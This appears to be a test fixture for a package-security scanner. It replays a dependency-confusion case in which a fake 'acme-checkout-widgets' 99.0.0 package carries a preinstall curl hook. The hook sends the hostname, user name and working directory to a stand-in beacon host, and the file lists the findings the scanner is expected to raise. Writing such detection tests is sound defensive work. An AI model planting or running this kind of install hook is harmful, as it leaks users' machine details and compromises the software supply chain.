import type { Replay } from '../replay.js'
import { replayAddition } from '../upgrade.js'

export const replay: Replay = replayAddition({
  description:
    'Ninety-two names that looked like those of private packages, with nothing in them but a command before installation that told a ' +
    'stranger’s host which machine and user had asked for them.',
  date: '2025',
  reviewedAt: '2025-06-03T12:00:00Z',
  name: 'acme-checkout-widgets',
  added: [
    '99.0.0',
    {
      published: '2025-06-02T12:00:00Z',
      manifest: {
        main: 'index.js',
        scripts: {
          preinstall: 'curl -s "https://beacon.example/acme-checkout-widgets?h=$(hostname)&u=$(whoami)&d=$(pwd)"',
        },
      },
      files: { 'index.js': 'module.exports = {}\n' },
    },
  ],
  findings: [
    ['combined-risk', 'critical'],
    ['package-young', 'medium'],
    ['release-fresh', 'medium'],
    ['install-script-dangerous', 'critical', { file: 'package.json' }],
    ['version-jump', 'high'],
    ['install-script-present', 'medium', { file: 'package.json' }],
  ],
})
